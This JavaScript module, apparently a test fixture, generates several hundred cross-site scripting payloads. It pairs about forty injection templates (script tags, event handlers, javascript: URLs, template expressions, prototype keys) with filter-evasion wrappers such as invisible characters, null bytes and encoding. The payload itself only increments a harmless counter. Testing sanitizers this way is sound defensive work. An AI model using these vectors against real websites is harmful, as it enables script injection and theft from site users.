/** Texts that would run, reorder or break a page that trusted them. */

const BROKEN = 'window.__broken=(window.__broken||0)+1';

const TEMPLATES = [
  '<script>@</script>',
  '"><script>@</script>',
  '</textarea><script>@</script>',
  '</title><script>@</script>',
  '<img src=x onerror="@">',
  "'><img src=x onerror='@'>",
  '<svg onload="@">',
  '<svg><script>@</script></svg>',
  '<svg><animate onbegin="@" attributeName=x dur=1s>',
  '<body onload="@">',
  '<iframe srcdoc="<script>parent.@</script>"></iframe>',
  '<iframe src="javascript:@"></iframe>',
  '<a href="javascript:@">x</a>',
  '<details open ontoggle="@">',
  '<input autofocus onfocus="@">',
  '<video><source onerror="@"></video>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror="@">',
  '<template><script>@</script></template>',
  '<style>@import "javascript:@"</style>',
  '<link rel=stylesheet href="javascript:@">',
  '<meta http-equiv=refresh content="0;url=javascript:@">',
  '<object data="javascript:@"></object>',
  '<base href="javascript:/">',
  '{{constructor.constructor("@")()}}',
  '$' + '{@}',
  'javascript:@',
  '`-@-`',
  '\u202e<img src=x onerror="@">\u2066',
  '\u0000<script>@</script>',
  '<scr\u0000ipt>@</script>',
  '&lt;script&gt;@&lt;/script&gt;',
  '%3Cscript%3E@%3C/script%3E',
  '\ud83d\ude00<b onmouseover="@">x</b>',
  '<!--><img src=x onerror="@">-->',
  '<![CDATA[<script>@</script>]]>',
  '" onmouseover="@" x="',
  "' style='animation:x' onanimationstart='@' x='",
  '__proto__',
  'constructor',
  '</li></ol></section><script>@</script>',
];

/** How a text may be dressed up on its way past a filter that looks for what it knows. */
const DRESSES = [
  (text) => text,
  (text) => text.toUpperCase().replaceAll('@', BROKEN).replaceAll(BROKEN.toUpperCase(), BROKEN),
  (text) => `"'>${text}`,
  (text) => `\u202e${text}\u202c`,
  (text) => text.replace('<', '<\u200b').replace('(', '\u2066('),
  (text) => `${text}\r\n\t\u001b[31m${text}\u0007`,
  (text) => `]]>--></title></style></script>${text}`,
  (text) => encodeURIComponent(text).slice(0, 400) + text,
];

/** Three hundred and more, each another text. */
export const PAYLOADS = [
  ...new Set(DRESSES.flatMap((dress) => TEMPLATES.map((text) => dress(text).replaceAll('@', BROKEN)))),
];
